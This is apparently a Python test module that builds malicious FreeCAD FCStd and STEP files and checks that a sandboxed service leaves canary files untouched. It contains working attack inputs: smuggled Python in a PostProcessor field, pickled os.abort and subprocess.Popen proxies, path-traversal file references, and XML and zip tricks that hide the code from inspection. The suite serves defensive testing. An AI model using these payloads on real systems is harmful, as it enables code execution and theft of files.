"""Attacks by FCStd files: what they name (classes, modules, files, formulas), and how they hide it from a reader."""

# OCP makes its names when it is imported: no checker sees them.
# pyright: reportAttributeAccessIssue=false

from __future__ import annotations

import base64
import io
import json
import re
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any
from xml.sax.saxutils import quoteattr

from tests.attack.attacks import Attack, Outcome

if TYPE_CHECKING:
    from tests.attack.field import Field

Property = tuple[str, str, str]
"""Name, type and XML."""


@dataclass(frozen=True)
class Target:
    """What a file is after: a secret that nobody may read, a folder in which nobody may write."""

    file: Path
    folder: Path
    python: str
    """An expression of Python that leaves a file in the folder where it is run."""

    @property
    def brep(self) -> Path:
        """A shape with a known volume beside the secret."""
        return self.file.parent / "secret.brep"


# --- documents -------------------------------------------------------------------------------------------------------


def text(name: str, value: str, kind: str = "App::PropertyString") -> Property:
    return name, kind, f"<String value={quoteattr(value)}/>"


def python(name: str = "Proxy", module: str = "", cls: str = "", state: str = "{}", **more: str) -> Property:
    named = f' module="{module}" class="{cls}"' if module else ""
    named += "".join(f' {key}="{value}"' for key, value in more.items())
    return name, "App::PropertyPythonObject", f'<Python value="{_coded(state)}" encoded="yes"{named}/>'


def _coded(state: str) -> str:
    return base64.b64encode(state.encode()).decode()


DYNAMIC = ' group="Base" doc="" attr="0" ro="0" hide="0"'
"""What FreeCAD wants of a property that the type of the object does not have, and not of others."""
OWN = ("PostProcessor", "Kept", "Where", "Extra", "Other")


def thing(kind: str, name: str, *properties: Property, before: str = "", attributes: str = "") -> tuple[str, str]:
    """An object: its line in the list, its data."""
    told = "".join(
        f'<Property name="{key}" type="{of}"{DYNAMIC * (key in OWN)}>{xml}</Property>' for key, of, xml in properties
    )
    data = (
        f'<Object name="{name}"{attributes}>{before}<Properties Count="{len(properties)}">{told}</Properties></Object>'
    )
    return f'<Object type="{kind}" name="{name}" Touched="1"/>', data


def xml(*things: tuple[str, str], head: str = "", schema: str = "4", properties: str = "") -> str:
    listed, data = "".join(line for line, _ in things), "".join(each for _, each in things)
    own = properties or '<Properties Count="0"></Properties>'
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{head}<Document SchemaVersion="{schema}" ProgramVersion="0.20R" '
        f'FileVersion="1">\n{own}\n<Objects Count="{len(things)}">{listed}</Objects>\n'
        f'<ObjectData Count="{len(things)}">{data}</ObjectData>\n</Document>\n'
    )


def package(*entries: tuple[str, str | bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return file.getvalue()


def document(*things: tuple[str, str], **more: Any) -> bytes:
    return package(("Document.xml", xml(*things, **more)))


BOX = thing("Part::Box", "Box", *((side, "App::PropertyLength", '<Float value="2"/>') for side in ("Length", "Width")))
"""Something ordinary beside the attack."""
SECRET_VOLUME = 41.27
SVG = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><rect width='5' height='5'/></svg>"


# --- what names code -------------------------------------------------------------------------------------------------


def path_job(target: Target) -> tuple[str, str]:
    """A class of the Path workbench imports the module that a text of the same object names."""
    return thing(
        "App::FeaturePython",
        "Job",
        python(module="PathScripts.PathJob", cls="ObjectJob"),
        text("PostProcessor", f"os; {target.python} #"),
    )


def scripted(
    module: str, cls: str, *properties: Property, kind: str = "Part::FeaturePython"
) -> Callable[[Target], Any]:
    return lambda _: thing(kind, "Scripted", python(module=module, cls=cls), *properties)


def in_another_property(target: Target) -> tuple[str, str]:
    _, _, code = python(module="PathScripts.PathJob", cls="ObjectJob")
    return thing(
        "App::FeaturePython",
        "Job",
        ("Proxy", "App::PropertyString", code),
        ("Other", "App::PropertyLink", f'<Link value=""/>{code}'),
        text("PostProcessor", f"os; {target.python} #"),
    )


def in_a_namespace(target: Target) -> tuple[str, str]:
    _, _, code = python(module="PathScripts.PathJob", cls="ObjectJob")
    code = code.replace("<Python", '<x:Python xmlns:x="urn:x"')
    proxy = ("Proxy", "App::PropertyPythonObject", code)
    return thing("App::FeaturePython", "Job", proxy, text("PostProcessor", f"os; {target.python} #"))


def in_an_extension(target: Target) -> tuple[str, str]:
    _, _, code = python(module="PathScripts.PathJob", cls="ObjectJob")
    inner = (
        f'<Properties Count="1"><Property name="Proxy" type="App::PropertyPythonObject">{code}</Property></Properties>'
    )
    extensions = (
        f'<Extensions Count="1"><Extension type="App::GroupExtensionPython" name="GroupExtensionPython">{inner}'
        "</Extension></Extensions>"
    )
    extension = python("ExtensionProxy", module="PathScripts.PathJob", cls="ObjectJob")
    return thing(
        "App::FeaturePython",
        "Job",
        extension,
        text("PostProcessor", f"os; {target.python} #"),
        before=extensions,
        attributes=' Extensions="True"',
    )


def behind_a_wrong_count(target: Target) -> tuple[str, str]:
    """One object says that it has more properties than it has, so that the ones of the next are read as its own."""
    line, data = path_job(target)
    return line, re.sub(r'Count="\d+"', 'Count="1"', data, count=1)


def pickled(state: str) -> Callable[[Target], Any]:
    return lambda target: thing(
        "App::FeaturePython", "Old", python(state=state), text("PostProcessor", f"os; {target.python} #")
    )


def techdraw_text(target: Target) -> list[tuple[str, str]]:
    """FreeCAD puts the text into a line of Python that it runs when the view is computed."""
    view = thing(
        "TechDraw::DrawViewDraft",
        "View",
        text("LineStyle", f'Solid",color={target.python},fontsize="'),
        ("Source", "App::PropertyLink", '<Link value="Box"/>'),
        ("LineWidth", "App::PropertyFloat", '<Float value="1"/>'),
    )
    views = ("Views", "App::PropertyLinkList", '<LinkList count="1"><Link value="View"/></LinkList>')
    return [BOX, view, thing("TechDraw::DrawPage", "Page", views)]


def link_that_calls(target: Target) -> list[tuple[str, str]]:
    linked = ("LinkedObject", "App::PropertyXLink", '<XLink file="" stamp="" name="Job"/>')
    return [path_job(target), thing("App::Link", "Link", linked, text("LinkExecute", "setupStock"))]


def of_type(kind: str) -> Callable[[Target], Any]:
    return lambda _: thing(kind, "Odd", text("Label", "Odd"))


def property_of_type(kind: str) -> Callable[[Target], Any]:
    return lambda _: thing("App::FeaturePython", "Odd", ("Extra", kind, "<String value='x'/>"))


def persistent(_: Target) -> tuple[str, str]:
    value = '<String value="App::FeaturePython"/><PersistentObject type="App::FeaturePython"></PersistentObject>'
    return thing("App::FeaturePython", "Odd", ("Extra", "App::PropertyPersistentObject", value))


def expression(path: str, formula: str) -> Callable[[Target], Any]:
    def make(target: Target) -> list[tuple[str, str]]:
        told = quoteattr(formula.format(file=target.file, folder=target.folder))
        engine = (
            f'<ExpressionEngine count="1"><Expression path={quoteattr(path)} expression={told}/></ExpressionEngine>'
        )
        return [
            BOX,
            thing(
                "App::FeaturePython",
                "Follower",
                text("Kept", ""),
                ("ExpressionEngine", "App::PropertyExpressionEngine", engine),
            ),
        ]

    return make


def cell(content: str) -> Callable[[Target], Any]:
    cells = f'<Cells Count="1"><Cell address="A1" content={quoteattr(content)}/></Cells>'
    return lambda _: thing("Spreadsheet::Sheet", "Sheet", ("cells", "Spreadsheet::PropertySheet", cells))


CODE: dict[str, Callable[[Target], Any]] = {
    "path-job": path_job,
    "path-job-in-another-property": in_another_property,
    "path-job-in-a-namespace": in_a_namespace,
    "path-job-in-an-extension": in_an_extension,
    "path-job-behind-a-wrong-count": behind_a_wrong_count,
    "pickled-class": pickled("(iPathScripts.PathJob\nObjectJob\n"),
    "pickled-function": pickled("(ios\nabort\n"),
    "pickled-macro": pickled("(iDraft\nprint_header\n"),
    "proxy-of-the-standard-library": scripted("subprocess", "Popen"),
    "proxy-of-arch-reference": scripted("ArchReference", "ArchReferenceObject"),
    "proxy-of-fem-solver": scripted("femsolver.elmer.solver", "Proxy", kind="Fem::FemSolverObjectPython"),
    "proxy-of-openscad": scripted("OpenSCADFeatures", "CGALFeature"),
    "proxy-of-draft-text": scripted("draftobjects.shapestring", "ShapeString"),
    "proxy-of-draft-with-a-state": lambda _: thing(
        "Part::FeaturePython",
        "Array",
        python(module="draftobjects.array", cls="Array", state=json.dumps({"execute": "x", "Type": [1]})),
    ),
    "text-in-a-techdraw-view": techdraw_text,
    "link-that-calls": link_that_calls,
    "type-of-a-module": of_type("antigravity::Feature"),
    "property-of-a-module": property_of_type("antigravity::PropertyThing"),
    "object-in-a-property": persistent,
    "expression-of-builtins": expression("Kept", "_py.open"),
    "expression-of-the-application": expression("Kept", "_app.ActiveDocument.Name"),
    "expression-that-sets-builtins": expression("_py.len", "Box._self.Name"),
    "expression-that-sets-the-proxy": expression("Proxy.execute", "Box.Shape.exportBrep"),
    "formula-of-builtins": cell("=_py.open"),
    "formula-of-an-object": cell("=Sheet._self.Content"),
}
"""Objects that would run code, or reach Python."""


# --- what names files ------------------------------------------------------------------------------------------------


def reads(kind: str, *properties: str, of: str = "App::PropertyString", suffix: str = "") -> Callable[[Target], Any]:
    def make(target: Target) -> list[tuple[str, str]]:
        path = str(target.brep) if suffix == ".brep" else str(target.file)
        return [BOX, thing(kind, "Reader", *(text(name, path, of) for name in properties))]

    return make


def writes(target: Target) -> list[tuple[str, str]]:
    source = ("Source", "App::PropertyLink", '<Link value="Cube"/>')
    path = text("FileName", str(target.folder / "written.stl"))
    return [thing("Mesh::Cube", "Cube"), thing("Mesh::Export", "Export", source, path, text("Format", "stl"))]


def vrml(target: Target) -> tuple[str, str]:
    def names(name: str, *values: str) -> Property:
        told = "".join(f"<String value={quoteattr(value)}/>" for value in values)
        return name, "App::PropertyStringList", f'<StringList count="{len(values)}">{told}</StringList>'

    return thing(
        "App::VRMLObject",
        "Scene",
        ("VrmlFile", "App::PropertyFileIncluded", '<FileIncluded file="scene.wrl"/>'),
        names("Urls", str(target.file)),
        names("Resources", "../" * 12 + str(target.folder / "resource")),
    )


def another_document(target: Target) -> tuple[str, str]:
    link = f'<XLink file={quoteattr(str(target.file.with_suffix(".FCStd")))} stamp="" name="Box"/>'
    return thing("App::Link", "Link", ("LinkedObject", "App::PropertyXLink", link))


def another_document_by_an_expression(target: Target) -> list[tuple[str, str]]:
    link = f'<XLink file={quoteattr(str(target.file.with_suffix(".FCStd")))} stamp="" name="Box"/>'
    engine = (
        f'<ExpressionEngine count="1" xlink="1"><XLinks count="1" docs="0">{link}</XLinks>'
        '<Expression path="Kept" expression="Other#Box.Label"/></ExpressionEngine>'
    )
    return [
        thing(
            "App::FeaturePython",
            "Follower",
            text("Kept", ""),
            ("ExpressionEngine", "App::PropertyExpressionEngine", engine),
        )
    ]


def included(name: str) -> Callable[[Target], Any]:
    def make(target: Target) -> tuple[str, str]:
        told = quoteattr(name.format(file=target.file, folder=target.folder))
        return thing(
            "Image::ImagePlane", "Image", ("ImageFile", "App::PropertyFileIncluded", f"<FileIncluded file={told}/>")
        )

    return make


FILES: dict[str, Callable[[Target], Any]] = {
    "import-brep": reads("Part::ImportBrep", "FileName", suffix=".brep"),
    "import-brep-of-another-kind": reads("Part::ImportBrep", "FileName", of="App::PropertyFile", suffix=".brep"),
    "import-step": reads("Part::ImportStep", "FileName"),
    "import-iges": reads("Part::ImportIges", "FileName"),
    "import-mesh": reads("Mesh::Import", "FileName", of="App::PropertyFile"),
    "curve-net": reads("Part::CurveNet", "FileName"),
    "export-mesh": writes,
    "vrml": vrml,
    "inventor": reads("App::InventorObject", "FileName", "Buffer"),
    "techdraw-template": reads("TechDraw::DrawSVGTemplate", "Template", of="App::PropertyFile"),
    "techdraw-hatch": reads("TechDraw::DrawHatch", "HatchPattern", of="App::PropertyFile"),
    "techdraw-pattern": reads("TechDraw::DrawGeomHatch", "FilePattern", of="App::PropertyFile"),
    "techdraw-section": reads(
        "TechDraw::DrawViewSection", "FileHatchPattern", "FileGeomPattern", of="App::PropertyFile"
    ),
    "techdraw-image": reads("TechDraw::DrawViewImage", "ImageFile", of="App::PropertyFile"),
    "techdraw-symbol": reads("TechDraw::DrawTileWeld", "SymbolFile", of="App::PropertyFile"),
    "drawing-page": reads("Drawing::FeaturePage", "Template", of="App::PropertyFile"),
    "raytracing-project": reads("Raytracing::RayProject", "Template", of="App::PropertyFile"),
    "another-document": another_document,
    "another-document-by-an-expression": another_document_by_an_expression,
    "included-from-elsewhere": included("{file}"),
    "included-from-above": included("../../../../../../../../{file}"),
    "path-in-a-property": reads("App::FeaturePython", "Where", of="App::PropertyPath"),
}
"""Objects that would read or write files outside of the package."""


# --- how it hides ----------------------------------------------------------------------------------------------------


def _job(target: Target, **more: Any) -> str:
    return xml(BOX, path_job(target), **more)


def python_job(target: Target) -> bytes:
    """An FCStd whose object names a Python class that runs the text of a property."""
    return package(("Document.xml", _job(target)))


def in_the_first_entry(target: Target) -> bytes:
    """FreeCAD reads the first entry as the document, whatever it is called."""
    return package(("Notes.xml", _job(target)), ("Document.xml", xml(BOX)))


def twice(target: Target) -> bytes:
    data = package(("Document.xml", _job(target)), ("Eocument.xml", xml(BOX)))
    return data.replace(b"Eocument.xml", b"Document.xml")


def for_the_window(target: Target) -> bytes:
    code = python(module="PathScripts.PathJob", cls="ObjectJob")
    view = (
        '<?xml version="1.0" encoding="utf-8"?><Document SchemaVersion="1"><ViewProviderData Count="1"><ViewProvider '
        f'name="Box"><Properties Count="1"><Property name="Proxy" type="{code[1]}">{code[2]}</Property></Properties>'
        "</ViewProvider></ViewProviderData></Document>"
    )
    return package(("Document.xml", _job(target)), ("GuiDocument.xml", view))


def of_the_document(target: Target) -> bytes:
    _, kind, code = python(module="PathScripts.PathJob", cls="ObjectJob")
    own = f'<Properties Count="1"><Property name="Proxy" type="{kind}">{code}</Property></Properties>'
    return document(BOX, path_job(target), properties=own)


def with_older_features(target: Target) -> bytes:
    line, data = path_job(target)
    told = xml(schema="2")
    features = f'<Features Count="1">{line.replace("<Object", "<Feature")}</Features>'
    features += (
        f'<FeatureData Count="1">{data.replace("Object name", "Feature name").replace("</Object>", "</Feature>")}'
    )
    return package(("Document.xml", told.replace("</Document>", f"{features}</FeatureData></Document>")))


def nested(target: Target) -> bytes:
    inner = document(path_job(target))
    own = thing(
        "App::DocumentObjectFileIncluded",
        "Inner",
        ("File", "App::PropertyFileIncluded", '<FileIncluded file="in.FCStd"/>'),
    )
    return package(("Document.xml", xml(BOX, own, path_job(target))), ("in.FCStd", inner))


def with_a_picture(target: Target) -> bytes:
    hatch = thing(
        "TechDraw::DrawHatch",
        "Hatch",
        ("SvgIncluded", "App::PropertyFileIncluded", '<FileIncluded file="hatch.svg"/>'),
        text("HatchPattern", str(target.file), "App::PropertyFile"),
    )
    picture = SVG.replace("<rect", f"<image href='file://{target.file}'/><rect")
    return package(("Document.xml", xml(BOX, hatch)), ("hatch.svg", picture))


WAYS: dict[str, tuple[str, Callable[[Target], bytes]]] = {
    "first-entry": ("a.FCStd", in_the_first_entry),
    "two-documents": ("a.FCStd", twice),
    "two-documents-by-case": (
        "a.FCStd",
        lambda target: package(("document.xml", _job(target)), ("Document.xml", xml(BOX))),
    ),
    "utf-16": (
        "a.FCStd",
        lambda target: package(("Document.xml", _job(target).replace("utf-8", "utf-16").encode("utf-16"))),
    ),
    "latin-1": (
        "a.FCStd",
        lambda target: package(("Document.xml", _job(target).replace("utf-8", "iso-8859-1").encode("latin-1"))),
    ),
    "entities": (
        "a.FCStd",
        lambda target: package(("Document.xml", _job(target).replace("PathScripts", "&#80;athScripts"))),
    ),
    "doctype": (
        "a.FCStd",
        lambda target: package(
            (
                "Document.xml",
                _job(target, head="<!DOCTYPE d [<!ENTITY p 'PathScripts'>]>").replace("PathScripts.", "&p;."),
            )
        ),
    ),
    "comments": (
        "a.FCStd",
        lambda target: package(("Document.xml", _job(target).replace("<Property ", "<!-- > --><?x y?><Property "))),
    ),
    "cdata": (
        "a.FCStd",
        lambda target: package(("Document.xml", _job(target).replace("<Objects ", "<![CDATA[<Objects>]]><Objects "))),
    ),
    "window": ("a.FCStd", for_the_window),
    "document-property": ("a.FCStd", of_the_document),
    "schema-2": ("a.FCStd", with_older_features),
    "schema-3": ("a.FCStd", lambda target: document(path_job(target), schema="3")),
    "schema-5": ("a.FCStd", lambda target: document(path_job(target), schema="5")),
    "nested": ("a.FCStd", nested),
    "picture": ("a.FCStd", with_a_picture),
    "named-step": ("a.step", lambda target: document(path_job(target))),
    "named-zip": ("a.zip", lambda target: document(path_job(target))),
    "named-upper": ("A.FCSTD", lambda target: document(path_job(target))),
}
"""Ways to hide a file's code from whoever looks at it first, with the name that the file has."""


def _all(made: Any) -> Sequence[tuple[str, str]]:
    return made if isinstance(made, list) else [made]


def files(target: Target) -> dict[str, tuple[str, bytes]]:
    """Every file of this module, by the name of the attack: its own name and its bytes."""
    found = {name: ("a.FCStd", document(*_all(make(target)))) for name, make in {**CODE, **FILES}.items()}
    return {**found, **{f"hidden-{name}": (given, make(target)) for name, (given, make) in WAYS.items()}}


def secret_shape() -> bytes:
    """The shape that the files are after: a box of `SECRET_VOLUME`."""
    from OCP.BRepPrimAPI import BRepPrimAPI_MakeBox
    from OCP.BRepTools import BRepTools

    stream = io.BytesIO()
    BRepTools.Write_s(BRepPrimAPI_MakeBox(1.0, 1.0, SECRET_VOLUME).Shape(), stream)
    return stream.getvalue()


def step_that_refers_to(path: str) -> bytes:
    """A STEP file with a cube of its own, and an assembly whose part is in the file `path`."""
    import tempfile

    from OCP.BRepPrimAPI import BRepPrimAPI_MakeBox
    from OCP.STEPCAFControl import STEPCAFControl_Writer
    from OCP.STEPControl import STEPControl_StepModelType
    from OCP.TCollection import TCollection_ExtendedString
    from OCP.TDocStd import TDocStd_Document
    from OCP.TopLoc import TopLoc_Location
    from OCP.XCAFApp import XCAFApp_Application
    from OCP.XCAFDoc import XCAFDoc_DocumentTool

    with tempfile.TemporaryDirectory() as folder:
        written: dict[bool, str] = {}
        for refers in (False, True):
            made = TDocStd_Document(TCollection_ExtendedString("XmlOcaf"))
            XCAFApp_Application.GetApplication_s().InitDocument(made)
            shapes = XCAFDoc_DocumentTool.ShapeTool_s(made.Main())
            part = shapes.AddShape(BRepPrimAPI_MakeBox(2.0, 2.0, 2.0).Shape(), False)
            if refers:
                shapes.AddComponent(shapes.NewShape(), part, TopLoc_Location())
                shapes.UpdateAssemblies()
            writer = STEPCAFControl_Writer()
            kind = STEPControl_StepModelType.STEPControl_AsIs
            writer.Transfer(made, kind, "other") if refers else writer.Transfer(made, kind)
            writer.Write(f"{folder}/main.step")
            written[refers] = Path(folder, "main.step").read_text()
    head, _, own = written[False].partition("DATA;")
    other = written[True].partition("DATA;")[2]
    named = re.findall(r"DOCUMENT_FILE\('([^']*)'", other)[0]
    own = own.partition("ENDSEC;")[0]
    # The two share one table of numbers.
    shifted = re.sub(r"#(\d+)", lambda found: f"#{int(found[1]) + 100000}", other).replace(f"'{named}'", f"'{path}'")
    return f"{head}DATA;{own}{shifted}".encode()


def _attack(name: str) -> Attack:
    def run(field: Field) -> Outcome:
        target = Target(field.canary.file, field.canary.folder, field.canary.python)
        field.plant(target.brep.name, secret_shape())
        given, data = files(target)[name]
        responses = field.deliver("freecad", given, data)
        said = ", ".join(f"{each.request.url.path.rpartition('/')[2]} {each.status_code}" for each in responses)
        return field.assert_quiet(said, "freecad")

    section = "S3a" if name in FILES else "S1"
    return Attack(f"fcstd-{name}", section, "freecad", run)


def _step(field: Field) -> Outcome:
    planted = field.plant("other.stp", step_that_refers_to("nowhere.stp"))
    responses = field.deliver("freecad", "a.step", step_that_refers_to(str(planted)), doors=("import",))
    return field.assert_quiet(f"import {responses[0].status_code}", "freecad")


ATTACKS = [Attack("step-of-another-file", "S3a", "freecad", _step)]
ATTACKS += [_attack(name) for name in (*CODE, *FILES, *(f"hidden-{name}" for name in WAYS))]
